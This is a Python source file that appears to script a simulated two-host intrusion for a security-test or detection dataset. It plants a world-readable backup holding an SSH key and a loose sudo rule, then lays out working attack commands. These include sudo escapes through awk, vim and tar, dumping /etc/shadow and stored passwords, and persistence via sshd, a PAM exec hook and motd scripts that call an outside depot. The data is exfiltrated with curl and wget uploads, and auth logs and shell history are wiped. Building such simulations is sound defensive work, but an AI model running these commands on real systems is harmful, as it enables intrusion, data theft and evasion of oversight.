"""A backup that anybody may read holds an ssh key; a generous sudo rule does the rest, and papers change hosts."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from plot import Storyline, Visit
from storylines._walk import a_name, walk

if TYPE_CHECKING:
    from intruder import Intruder

PORT = 8412
KEY = re.compile(r"-----BEGIN OPENSSH[^\n]*\n.*?-----END OPENSSH[^\n]*\n", re.DOTALL)

WEAKEN = r"""
set -e
id -u nightcopy >/dev/null 2>&1 || useradd -m -s /bin/bash -c 'nightly copies' nightcopy
id -u shelf >/dev/null 2>&1 || useradd -r -d /opt/shelf -s /usr/sbin/nologin shelf
mkdir -p /opt/shelf /var/backups/shelf /srv/minutes
if [ ! -f /home/nightcopy/.ssh/authorized_keys ]; then
    install -d -m 700 -o nightcopy -g nightcopy /home/nightcopy/.ssh
    work=$(mktemp -d); mkdir -p "$work/wiki/data" "$work/wiki/.sync"
    ssh-keygen -q -t ed25519 -N '' -C wiki-sync -f "$work/wiki/.sync/id_sync"
    cp "$work/wiki/.sync/id_sync.pub" /home/nightcopy/.ssh/authorized_keys
    chown nightcopy:nightcopy /home/nightcopy/.ssh/authorized_keys; chmod 600 /home/nightcopy/.ssh/authorized_keys
    printf 'host=%s\nuser=nightcopy\nkey=.sync/id_sync\n' "$1" > "$work/wiki/.sync/target"
    for page in start onboarding printers canteen rota; do
        printf '= %s\nThis page was last looked after in spring.\n' "$page" > "$work/wiki/data/$page.txt"
    done
    for week in 40 41 42; do tar -C "$work" -czf "/var/backups/shelf/wiki-$week.tgz" wiki; done
    tar -C /etc -czf /var/backups/shelf/settings-42.tgz hostname hosts timezone cron.d 2>/dev/null || true
    rm -rf "$work"
fi
chmod 755 /var/backups/shelf; chmod 644 /var/backups/shelf/*
cat > /opt/shelf/shelf.py <<'EOF'
# Lists the nightly archives and shows single files of them.
import pathlib
import tarfile

import appserver

FOLDER = pathlib.Path("/var/backups/shelf")


def handle(method, path, query, body, headers):
    pick = lambda name: query.get(name, "")
    if path == "/":
        return 200, "\n".join(f"{p.name} {p.stat().st_size}" for p in sorted(FOLDER.glob("*.tgz"))) + "\n"
    if path not in ("/list", "/show"):
        return 404, "no such page\n"
    archive = FOLDER / pathlib.Path(pick("archive")).name
    if not archive.is_file():
        return 404, "no such archive\n"
    with tarfile.open(archive) as tar:
        if path == "/list":
            return 200, "\n".join(tar.getnames()) + "\n"
        try:
            return 200, tar.extractfile(pick("file")).read().decode("utf-8", "replace")
        except (KeyError, AttributeError):
            return 404, "no such file\n"


appserver.serve(8412, handle, "shelf")
EOF
echo 'nightcopy ALL=(root) NOPASSWD: /usr/bin/awk, /usr/bin/tar, /usr/bin/vim.tiny * /etc/motd' \
    > /etc/sudoers.d/nightcopy
chmod 440 /etc/sudoers.d/nightcopy
for month in 01 02 03 04 05 06 07 08 09; do
    printf 'Minutes of the board, 2026-%s\nPresent: six members of Example Works.\n' "$month" \
        > "/srv/minutes/board-$month.txt"
    seq 1 400 | awk -v m="$month" '{print "item " $1 ": resolved, amount " $1*m*7}' >> "/srv/minutes/board-$month.txt"
done
chmod 750 /srv/minutes
mkdir -p /root/.config && printf 'machine atlas-11\nlogin intake\npassword Ferry-Slip-06\n' > /root/.config/intake
printf 'machine atlas-11\nlogin intake\npassword Ferry-Slip-06\n' > /srv/minutes/.intake
chmod 600 /root/.config/intake /srv/minutes/.intake
mkdir -p /etc/update-motd.d
grep -q pam_motd /etc/pam.d/sshd || echo 'session optional pam_motd.so noupdate' >> /etc/pam.d/sshd
echo '*/7 * * * * root tar -C / -czf /var/backups/shelf/name.tgz etc/hostname; chmod 644 /var/backups/shelf/*' \
    > /etc/cron.d/shelf
"""

SECOND = r"""
set -e
id -u intake >/dev/null 2>&1 || useradd -m -s /bin/bash -c 'incoming copies' intake
echo 'intake:Ferry-Slip-06' | chpasswd
install -d -o intake -g intake /home/intake/incoming /home/intake/incoming/wiki
seq 1 200 > /home/intake/incoming/wiki/checks.txt
mkdir -p /etc/ssh/sshd_config.d
printf 'Match User intake\n    PasswordAuthentication yes\n' > /etc/ssh/sshd_config.d/30-intake.conf
"""

FIRST_LOOK = r"""
== look round | TA0007 | An account for copies: what may it do, what is it near to.
T1033 id; whoami; w
? T1082 hostnamectl 2>/dev/null || uname -a
T1083 ls -la ~ /srv /var/backups
? T1057 ps -ef | grep -v '\[' | head -30
T1069.001 sudo -l
? T1016 ip -4 addr show; cat /etc/hosts
T1087.001 awk -F: '$3>999{print $1":"$7}' /etc/passwd
"""

BY_AWK = r"""
== up with awk | TA0004 | Whoever may run awk as root may run anything.
T1083 ls -l /srv/minutes
T1548.003 sudo awk 'BEGIN{system("id")}'
T1548.003 sudo awk 'BEGIN{system("/bin/bash")}'
T1033 id -un
== what root knows | TA0006 | Password hashes, keys, settings with passwords.
T1003.008 awk -F: '$2~/^\$/{print $1,$2}' /etc/shadow
T1552.004 for d in /root /home/*; do ls -l $d/.ssh 2>/dev/null; done
T1552.001 grep -rIl password /root /srv 2>/dev/null
T1552.001 cat /root/.config/intake
== a second place for keys | TA0003 | sshd looks for keys in one more folder, where a file for root lies.
T1098.004 mkdir -p /etc/ssh/keys.d; echo '{public}' > /etc/ssh/keys.d/root
T1222.002 chmod 755 /etc/ssh/keys.d; chmod 644 /etc/ssh/keys.d/root
T1098.004 printf 'AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys.d/%%u\n' > /etc/ssh/sshd_config.d/50-keys.conf
? T1098.004 sshd -t && echo fine
T1098.004 kill -HUP $(cat /run/sshd.pid)
T1070.006 touch -r /etc/ssh/moduli /etc/ssh/sshd_config.d/50-keys.conf /etc/ssh/keys.d /etc/ssh/keys.d/root
"""

BY_VIM = r"""
== up with the editor | TA0004 | The rule for the message of the day starts an editor as root.
T1548.003 sudo -n vim /etc/motd
T1548.003 sudo -n /usr/bin/vim.tiny -c ':!/bin/bash' /etc/motd
T1033 id; pwd
== what root knows | TA0006 | Keys and the word for the other host.
T1003.008 getent shadow | cut -d: -f1,2 | grep -F '$'
? T1552.003 tail -n 30 /root/.bash_history
T1552.001 find /root /srv -maxdepth 3 -size -4k -type f -exec grep -l '^password' {} +
T1552.001 cat /srv/minutes/.intake
== a line in PAM | TA0003 | Each login over ssh starts a program that tells who came.
T1105 curl -fsS {depot}/{file} -o /usr/lib/x86_64-linux-gnu/security/{file}
T1222.002 chmod 0755 /usr/lib/x86_64-linux-gnu/security/{file}
T1556.003 @plant /usr/lib/x86_64-linux-gnu/security/{file}
T1556.003 cp -a /etc/pam.d/sshd /var/tmp/.sshd
T1556.003 echo 'session optional pam_exec.so quiet /usr/lib/x86_64-linux-gnu/security/{file}' >> /etc/pam.d/sshd
T1070.006 touch -r /var/tmp/.sshd /etc/pam.d/sshd; rm /var/tmp/.sshd
? T1556.003 tail -2 /etc/pam.d/sshd
"""

BY_TAR = r"""
== up with tar | TA0004 | One command, as in any list of such tricks.
T1548.003 sudo tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/bash
T1082 uptime; df -h / /srv
== what root knows | TA0006 | The administrator's way: one look at the right file.
T1552.001 cat /root/.config/intake
== a greeting | TA0003 | A script among those that write the message of the day.
T1037 printf '#!/bin/sh\nwget -q -T 4 -O /dev/null "{depot}/motd?$(hostname)" || true\n' >\
 /etc/update-motd.d/{number}-{file}
T1222.002 chmod +x /etc/update-motd.d/{number}-{file}
T1037 @plant /etc/update-motd.d/{number}-{file}
T1037 run-parts --test /etc/update-motd.d
T1098.004 install -d -m 700 /root/.ssh && echo '{public}' >> /root/.ssh/authorized_keys
"""

COPY = r"""
== papers | TA0009 | The board's minutes are counted, chosen and packed.
T1083 du -sh /srv/minutes; ls /srv/minutes | wc -l
? T1083 find / -xdev \( -name '*.odt' -o -name '*.docx' -o -name '*.pdf' \) -size +1k 2>/dev/null | head
T1074.001 mkdir -p {work} && rsync -a --include='board-*' --exclude='*' /srv/minutes/ {work}/
{pack}
== over to the other host | TA0008 | rsync and ssh carry it to an inside host, where nobody asks.
? T1018 getent hosts {second}; nc -vz -w 2 {second} 22
T1046 timeout 2 bash -c '</dev/tcp/{address2}/22' && echo open
T1570 rsync -a -e 'ssh -o StrictHostKeyChecking=no' {work}/ intake@{address2}:incoming/{word}/
T1021.004 ssh -o StrictHostKeyChecking=no intake@{address2}
"""

THERE = r"""
T1033 id; hostname; w
T1083 ls -la incoming incoming/{word}
? T1057 ps aux | tail -12
T1087.001 getent passwd | tail -4
T1074.002 mkdir -p .local/share/{word} && mv incoming/{word}/* .local/share/{word}/
{send}
? T1070.003 history -c
T1021.004 exit
== tidy | TA0005 | The working folder and the traces in two logs go.
T1070.004 rm -rf {work}
{clean}
"""

PACKS = (
    "T1560.001 tar -C {work} --xz -cf {work}/w.txz --exclude=w.txz . ; ls -l {work}/w.txz",
    "? T1560.001 cd {work} && zip -q m.zip board-*\n"
    "T1560.001 cd {work} && ls board-0* | cpio -o -H newc 2>/dev/null | bzip2 > m.cpio && rm board-*; ls -l",
    "T1119 cat {work}/board-0[1-4].txt | gzip > {work}/q.gz; rm {work}/board-*",
)
SENDS = (
    "T1048.003 curl -sS -T .local/share/{word}/w.txz {depot}/in/{word}",
    "T1027.013 cd .local/share/{word} && openssl enc -aes-256-cbc -pbkdf2 -pass pass:{word} -in m.cpio -out m; cd\n"
    "T1048.003 wget -qO- --post-file=.local/share/{word}/m {depot}/in",
    "T1083 ls -l .local/share/{word}",
)
CLEANS = (
    "T1070.002 sed -i '/{from}/d' /var/log/auth.log\n"
    "T1070.003 rm -f /root/.bash_history; ln -s /dev/null /root/.bash_history",
    "T1070.003 export HISTSIZE=0\n"
    "T1070.002 grep -v nightcopy /var/log/auth.log > /tmp/a; cat /tmp/a > /var/log/auth.log\n"
    "T1070.004 rm -f /tmp/a",
    "? T1654 tail -n 5 /var/log/auth.log",
)


def find_key(own: Intruder, middle: float) -> str:
    """Read the archives' lists in the browser until one shows a key."""
    own.step("open archive", "TA0009", "The page of the nightly archives shows any file of any archive to anybody.")

    def show(path: str, technique: str) -> str:
        own.think(middle)
        return own.http(own.entry, PORT, "GET", path, technique=technique)

    show("/", "T1213")
    week = own.pick(("40", "41", "42"))
    if own.variant != 2:
        show("/list?archive=settings-42.tgz", "T1213")
    show(f"/list?archive=wiki-{week}.tgz", "T1213")
    show(f"/show?archive=wiki-{week}.tgz&file=wiki/.sync/target", "T1552.001")
    found = KEY.search(show(f"/show?archive=wiki-{week}.tgz&file=wiki/.sync/id_sync", "T1552.004"))
    assert found, "the archive shows no key"
    return found.group(0)


def play(own: Intruder) -> None:
    middle = (3.5, 7.0, 16.0)[own.variant]
    key = find_key(own, middle)
    file = own.pick((("keys.conf",), ("pam_session_note", "pam_lastseen"), ("disk-room", "updates-due"))[own.variant])
    body = f'#!/bin/sh\ncurl -s -m 4 "{own.depot}/seen?u=$PAM_USER&t=$PAM_TYPE" >/dev/null || :\nexit 0\n'
    own.offer(file, body)
    work = own.pick(
        (("/var/tmp/rs-cache", "/var/tmp/.rs"), ("/opt/shelf/tmp", "/mnt/w"), ("/tmp/minutes",))[own.variant]
    )
    names = {"depot": own.depot, "file": file, "word": a_name(own), "work": work, "from": own.address}
    names |= {"second": own.second.name, "address2": own.second.address, "number": str(own.rng.randint(60, 89))}
    names["public"] = f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{'Q2xlYW5FeGFtcGxl' * 3}Abc wiki-sync"
    own.step("valid key", "TA0001", "With the key out of the archive the intruder logs on as the account for copies.")
    shell = own.ssh(own.entry, "nightcopy", key=key, technique="T1078.003")
    walk(own, FIRST_LOOK if own.variant != 2 else "T1069.001 sudo -l", shell, names, middle)
    page = (BY_AWK, BY_VIM, BY_TAR)[own.variant] + COPY + THERE
    for place, texts in (("{pack}", PACKS), ("{send}", SENDS), ("{clean}", CLEANS)):
        page = page.replace(place, texts[own.variant])
    walk(own, page, shell, names, middle, "Ferry-Slip-06")
    shell.close()


STORYLINE = Storyline(
    name="backup-key",
    split="test",
    words="A page shows files out of nightly archives to anybody; one archive holds the ssh key of the account for "
    "copies. A sudo rule for awk, tar and an editor makes root of it; sshd, PAM or the message of the day keep the way "
    "open, and the board's minutes are put on another host inside.",
    weaken=WEAKEN,
    second_weaken=SECOND,
    two_hosts=True,
    services=("shelf: /usr/bin/python3 /opt/shelf/shelf.py",),
    visits=(
        Visit(PORT, 40, path="/"),
        Visit(PORT, 55, path="/list?archive=wiki-{pick:40|41|42}.tgz"),
        Visit(
            PORT, 60, path="/show?archive=wiki-{pick:40|41|42}.tgz&file=wiki/data/{pick:start|rota|canteen|none}.txt"
        ),
    ),
    play=play,
    hosts=("quay-12",),
    second_hosts=("atlas-11",),
    minutes=12,
)
